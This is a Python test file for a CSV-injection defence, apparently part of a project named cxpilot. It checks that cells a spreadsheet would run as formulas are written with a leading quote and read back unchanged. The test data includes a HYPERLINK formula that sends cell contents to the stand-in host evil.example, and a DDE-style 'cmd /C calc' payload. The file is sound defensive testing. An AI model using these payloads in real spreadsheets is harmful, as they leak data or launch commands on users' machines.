"""CSV cells a spreadsheet would run as formulas are written as text, and read back as they
were (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from cxpilot.kernel.csvcells import TRIGGERS, restore, safe_cell, writer
from tests.hostile import HOSTILE_STRINGS

pytestmark = pytest.mark.pure

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-3", "-3"),  # a plain number is no formula
        ("+4.5", "+4.5"),
        ("-1,5", "-1,5"),
        ("Très bien", "Très bien"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_formula_cells_are_neutralised(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize(
    "text",
    [*HOSTILE_STRINGS, FORMULA, "'=already quoted", "''", "'", *(t + "x" for t in TRIGGERS)],
)
def test_what_is_written_reads_back_as_it_was(text):
    assert restore(safe_cell(text)) == text


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    w = writer(out, lineterminator="\n")
    w.writerow(["id", "verbatim"])
    w.writerows([["r1", FORMULA], ["r2", "fine"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["id", "verbatim"], ["r1", "'" + FORMULA], ["r2", "fine"]]
